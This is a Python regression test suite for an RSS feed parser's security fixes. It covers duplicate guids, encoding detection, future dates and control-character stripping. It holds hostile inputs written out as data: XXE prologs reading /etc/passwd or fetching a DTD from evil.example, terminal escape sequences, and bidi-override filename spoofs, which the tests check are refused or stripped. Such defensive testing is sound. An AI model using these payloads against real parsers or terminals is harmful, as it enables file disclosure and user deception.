"""Regression tests for an independent attacker's findings against feed item parsing
(kb.feeds.items): ids shared by distinct items, entity declarations quoted in item text,
UTF-16/32 feeds served as text/xml, dates in the far future, control characters in fields."""

from __future__ import annotations

import http.server
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from feedserver import FEEDS

from kb import clock
from kb.config import FeedSettings
from kb.feeds import items
from kb.feeds.fetch import Fetcher
from kb.feeds.items import FeedError
from kb.model.sanitize import printable
from kb.store import Store

SECURITY = FEEDS / "security"
URL = "https://t.example/feed"
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
BODY_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def rss(items_xml: str, prolog: str = "", encoding: str = "utf-8") -> str:
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>{prolog}\n<rss version="2.0"><channel><title>Café desk</title>'
        f"<link>https://t.example/</link><description>d</description>{items_xml}</channel></rss>"
    )


def shared_id_feed(count: int, guid: str | None = "same-guid", link: str = "https://t.example/") -> bytes:
    guid_xml = f"<guid isPermaLink='false'>{guid}</guid>" if guid else ""
    stories = "".join(
        f"<item><title>Story {n}</title>{guid_xml}<link>{link}</link><description>What happened in story {n}.</description></item>"
        for n in range(count)
    )
    return rss(stories).encode()


@pytest.fixture
def store(tmp_path) -> Iterator[Store]:
    opened = Store.open(tmp_path / "kb.sqlite")
    yield opened
    opened.close()


def keep(store: Store, parsed: items.ParsedFeed, feed_id: int = 1) -> items.Stored:
    with store.db.atomic():
        return items.store_items(store, feed_id, URL, parsed.items)


@pytest.fixture
def feedparser_calls(monkeypatch) -> list[bytes]:
    """The documents handed to feedparser (still parsed for real)."""
    calls: list[bytes] = []
    real = items.feedparser.parse

    def counting(source, *args, **kwargs):  # type: ignore[no-untyped-def]
        calls.append(source.getvalue())
        return real(source, *args, **kwargs)

    monkeypatch.setattr(items.feedparser, "parse", counting)
    return calls


# -- finding 10: distinct items sharing a guid (or a link) ---------------------------------------


def test_finding_10_items_sharing_a_guid_are_kept(store):
    body = shared_id_feed(20)  # one guid and one link for all twenty
    first = items.parse(body, 1, URL)
    assert [i.title for i in first.items] == [f"Story {n}" for n in range(20)]
    assert len({i.key for i in first.items}) == 20 and first.keyed_by == "content"
    again = items.parse(body, 1, URL)
    assert [i.key for i in again.items] == [i.key for i in first.items]  # the same keys poll after poll
    assert len(keep(store, first).new) == 20
    second = keep(store, again)
    assert second.new == [] and second.updated == [] and second.unchanged == 20  # no duplicates
    third = keep(store, items.parse(shared_id_feed(21), 1, URL))  # one more story under the same guid
    assert len(third.new) == 1 and third.unchanged == 20
    assert store.db.execute("SELECT count(*) FROM feed_items").fetchone()[0] == 21


def test_finding_10_items_sharing_a_link_and_no_guid_are_kept(store):
    parsed = items.parse(shared_id_feed(20, guid=None), 1, URL)
    assert len(parsed.items) == 20 and len({i.key for i in parsed.items}) == 20
    assert len(keep(store, parsed).new) == 20
    assert keep(store, items.parse(shared_id_feed(20, guid=None), 1, URL)).unchanged == 20


def test_shared_guid_items_alike_but_for_their_links_are_kept():
    postings = "".join(
        f"<item><title>New job posted</title><guid>jobs</guid><link>https://t.example/job/{n}</link></item>"
        for n in range(5)
    )
    parsed = items.parse(rss(postings).encode(), 1, URL)
    assert [i.link for i in parsed.items] == [f"https://t.example/job/{n}" for n in range(5)]
    assert parsed.keyed_by == "link"


def test_finding_10_a_few_shared_guids_fall_back_and_the_rest_keep_guid_keys():
    good = "".join(
        f"<item><title>Item {n}</title><guid>g-{n}</guid><link>https://t.example/{n}</link></item>" for n in range(40)
    )
    clash = (
        "<item><title>Clash A</title><guid>g-shared</guid><link>https://t.example/a</link></item>"
        "<item><title>Clash B</title><guid>g-shared</guid><link>https://t.example/b</link></item>"
    )
    twice = "<item><title>Twice</title><guid>g-twice</guid></item>" * 2  # the same item listed twice
    alone = items.parse(rss(good).encode(), 1, URL)
    mixed = items.parse(rss(good + clash + twice).encode(), 1, URL)
    assert mixed.keyed_by == "guid" and [i.title for i in mixed.items][40:] == ["Clash A", "Clash B", "Twice"]
    assert [i.key for i in mixed.items][:40] == [i.key for i in alone.items]  # 2 of 44 clash: under 5 %
    assert len({i.key for i in mixed.items}) == 43


# -- entity declarations only count in the prolog ---------------------------------------


def test_entities_quoted_in_item_text_are_not_refused():
    parsed = items.parse((SECURITY / "xxe-news.xml").read_bytes(), 1, URL, "application/rss+xml")
    assert [i.link for i in parsed.items] == [
        "https://vuln-digest.example/2026/xxe-ticketing",
        "https://vuln-digest.example/2026/billion-laughs",
        "https://vuln-digest.example/2026/quoted",
    ]
    assert parsed.items[0].title.startswith("XXE in a ticketing system")
    assert '<!ENTITY xxe SYSTEM "file:///etc/passwd">' in parsed.items[2].text  # shown as text, not obeyed


HOSTILE_PROLOGS = {
    "billion laughs": (FEEDS / "bomb.xml").read_text().split("<rss", 1)[0].replace('<?xml version="1.0"?>', ""),
    "external entity": (FEEDS / "xxe.xml").read_text().split("<rss", 1)[0].replace('<?xml version="1.0"?>', ""),
    "parameter entity": '<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://evil.example/x.dtd"> %p;]>',
    "root-like tag in an earlier comment": '<!-- <rss> --><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "tag and ]> in a comment in the subset": '<!DOCTYPE rss [<!-- <rss> ]> --><!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "tag in a quoted system id": '<!DOCTYPE rss SYSTEM "<rss>" [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "tag in an entity value": '<!DOCTYPE rss [<!ENTITY a "<rss>]>"><!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "stray text first": 'junk<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "unterminated": '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"',
}


@pytest.mark.parametrize("name", HOSTILE_PROLOGS)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-16-be", "utf-32"])
def test_entities_declared_in_the_doctype_are_still_refused(name, encoding, feedparser_calls):
    item = "<item><title>&x;</title><link>https://t.example/1</link><description>&lol9;</description></item>"
    body = rss(item, HOSTILE_PROLOGS[name], encoding.removesuffix("-be")).encode(encoding)  # -be: no mark
    for content_type in (None, "text/xml", "application/rss+xml; charset=iso-8859-1"):
        with pytest.raises(FeedError, match="declares XML entities"):
            items.parse(body, 1, URL, content_type)
    assert feedparser_calls == []  # refused before feedparser saw a byte


# -- the byte-order mark decides the encoding ------------------------------------------

BOMS = {"utf-8-sig": "utf-8", "utf-16": "utf-16", "utf-16-be": "utf-16", "utf-32": "utf-32", "utf-32-be": "utf-32"}
SERVED_AS = ["text/xml", "text/xml; charset=iso-8859-1", "text/xml; charset=windows-1252", "text/xml; charset=utf-8"]


def with_bom(text: str, codec: str) -> bytes:
    data = text.encode(codec)
    return data if codec in ("utf-8-sig", "utf-16", "utf-32") else "\ufeff".encode(codec) + data


@pytest.mark.parametrize("codec", BOMS)
@pytest.mark.parametrize("content_type", SERVED_AS)
def test_utf16_and_utf32_feeds_served_as_text_xml_are_read(codec, content_type):
    text = rss("<item><title>Naïve façade — 日本</title><guid>u-1</guid><link>https://t.example/u</link></item>")
    for declared in (BOMS[codec], "utf-8", "iso-8859-1"):  # the mark outranks a wrong declaration too
        body = with_bom(text.replace('encoding="utf-8"', f'encoding="{declared}"'), codec)
        parsed = items.parse(body, 1, URL, content_type)
        assert parsed.title == "Café desk" and [i.title for i in parsed.items] == ["Naïve façade — 日本"]


def test_declared_encodings_that_are_no_text_encodings_fall_back_to_utf8():
    for codec in ("base64", "rot13", "idna", "no-such-codec"):
        body = rss("<item><title>Café</title><guid>c</guid></item>", encoding=codec).encode()
        for content_type in (None, f"text/xml; charset={codec}"):
            parsed = items.parse(body, 1, URL, content_type)
            assert [i.title for i in parsed.items] == ["Café"] and "parsed as utf-8" in parsed.bozo


@dataclass
class TextXmlServer:
    """Serves documents with the Content-Type the test gives, over real HTTP on 127.0.0.1."""

    bodies: dict[str, tuple[bytes, str]] = field(default_factory=dict)

    def __enter__(self) -> TextXmlServer:
        bodies = self.bodies

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802
                body, content_type = bodies[self.path]
                self.send_response(200)
                self.send_header("Content-Type", content_type)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.httpd.server_address[1]}{path}"


def test_utf16_feed_fetched_over_http_as_text_xml_is_read():
    text = rss("<item><title>Café skimmers</title><guid>c-1</guid></item>", encoding="utf-16")
    settings = FeedSettings(allow_private=True, connect_timeout=2.0, read_timeout=2.0, total_timeout=5.0)
    with TextXmlServer() as server, Fetcher(settings) as fetcher:
        for n, (codec, content_type) in enumerate(
            [("utf-16", "text/xml; charset=ISO-8859-1"), ("utf-32-be", "text/xml")]
        ):
            server.bodies[f"/{n}"] = (with_bom(text, codec), content_type)
            response = fetcher.fetch(server.url(f"/{n}"))
            parsed = items.parse(response.body, 1, response.final_url, response.headers.get("content-type"))
            assert [i.title for i in parsed.items] == ["Café skimmers"]


# -- dates in the future ---------------------------------------------------------------


def test_future_dates_are_clamped_to_the_fetch_time(store):
    body = rss(
        "<item><title>Far</title><guid>f</guid><pubDate>Wed, 01 Dec 9999 00:00:00 GMT</pubDate></item>"
        "<item><title>Skewed</title><guid>s</guid><pubDate>Sat, 01 Jun 2030 20:00:00 GMT</pubDate></item>"
        "<item><title>Past</title><guid>p</guid><pubDate>Mon, 01 Jan 2024 08:00:00 GMT</pubDate></item>"
    ).encode()
    with clock.frozen("2030-06-01T12:00:00+00:00"):
        parsed = items.parse(body, 1, URL)
    assert [i.published for i in parsed.items] == [
        "2030-06-01T12:00:00+00:00",  # 9999 is taken as the fetch time
        "2030-06-01T20:00:00+00:00",  # within a day of it: clock skew, kept
        "2024-01-01T08:00:00+00:00",
    ]
    with clock.frozen("2026-06-01T12:00:00+00:00"):  # stored by a process whose clock says otherwise
        keep(store, parsed)
    rows = dict(store.db.execute("SELECT title, published FROM feed_items").fetchall())
    assert rows == {
        "Far": "2026-06-01T12:00:00+00:00",
        "Skewed": "2026-06-01T12:00:00+00:00",
        "Past": "2024-01-01T08:00:00+00:00",
    }


# -- finding 5: control characters ----------------------------------------------------------------


def assert_clean(item: items.Item) -> None:
    for name in ("key", "guid", "link", "title", "author", "published", "content_hash"):
        value = getattr(item, name) or ""
        assert not CONTROL.search(value), (name, value)
    for name in ("summary_html", "content_html", "text"):
        value = getattr(item, name)
        assert not BODY_CONTROL.search(value), (name, value)


def test_finding_5_control_characters_are_stripped_from_item_fields():
    # C1 controls may be raw in XML 1.0 (feedparser maps most to Windows-1252, not 0x81, 0x8D, 0x8F, 0x90,
    # 0x9D); C0 ones arrive as HTML character references
    well_formed = rss(
        "<item><title>Breaking\x9b2J \x81news\x9d &amp;#129;&amp;#27;[31m</title><guid isPermaLink='false'>id\x81-1</guid>"
        "<link>https://t.example/\x8d31m</link><author>eve@t.example (Eve\x8f\x9b0m)</author>"
        "<description>&lt;pre&gt;line one\nline\ttwo&amp;#27;]0;pwned&amp;#7;\x901m&lt;/pre&gt;</description></item>"
    )
    broken = rss(  # raw C0 controls: not well-formed, so feedparser's loose parser reads it
        "<item><title>Alert\x1b[2J\x1b]0;owned\x07 now</title><guid isPermaLink='false'>id-2</guid>"
        "<author>x\x1b[8m@t.example (Mal\x1b[0m)</author>"
        "<description>first\x1b[1m line\x00\x0b\x0c\r\nsecond\x08 line</description></item>"
    )
    (one,) = items.parse(well_formed.encode(), 1, URL).items
    (two,) = items.parse(broken.encode(), 1, URL).items
    assert_clean(one)
    assert_clean(two)
    assert one.title == "Breaking›2J news [31m" and one.guid == "id-1" and one.link is None
    assert one.author == "eve@t.example (Eve›0m)" and one.summary_html == "<pre>line one\nline\ttwo]0;pwned1m</pre>"
    assert two.title == "Alert[2J]0;owned now" and two.author == "x[8m@t.example (Mal[0m)"
    assert two.summary_html == "first[1m line\nsecond line" and two.text == "first[1m line second line"


def test_bidirectional_overrides_that_would_show_text_in_another_order_are_stripped():
    feed = rss(
        "<item><title>Invoice \u202efdp.exe\u202c ready</title><guid isPermaLink='false'>id-3</guid>"
        "<link>https://t.example/\u2066a\u2069</link><author>Eve \u202bX\u202c</author>"
        "<description>Open \u2067gpj.scr\u2069 now \u05e9\u05dc\u05d5\u05dd</description></item>"
    )
    (item,) = items.parse(feed.encode(), 1, URL).items
    assert item.title == "Invoice fdp.exe ready" and item.author == "Eve X" and item.link is None
    assert item.text == "Open gpj.scr now \u05e9\u05dc\u05d5\u05dd"  # right-to-left letters themselves stay
    assert printable("a\u202eb\u2068c") == "abc"


def test_finding_5_nothing_a_feed_wrote_reaches_the_terminal_as_an_escape(kb_root):
    """Even a row stored before titles were cleaned prints without control characters."""
    from click.testing import CliRunner
    from staff_fixtures import add_feed_item, add_update_suggestion

    from kb.cli.main import main
    from kb.sync import update_index
    from kb.workspace import Workspace

    ws = Workspace.open(kb_root)
    update_index(ws)
    hostile = "Clear\x1b[2J\x1b]0;pwned\x07 \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b31m"
    item = add_feed_item(ws, hostile, "https://news.example.test/1")
    sid = add_update_suggestion(ws, "printed-guns", [item], title=hostile)
    ws.close()
    for args in (["feeds", "items"], ["suggestions", "list"], ["suggestions", "show", str(sid)]):
        out = CliRunner().invoke(main, ["--root", str(kb_root), *args]).output
        assert "Clear" in out, args
        assert not any(ch in out for ch in "\x1b\x07\x9b"), args
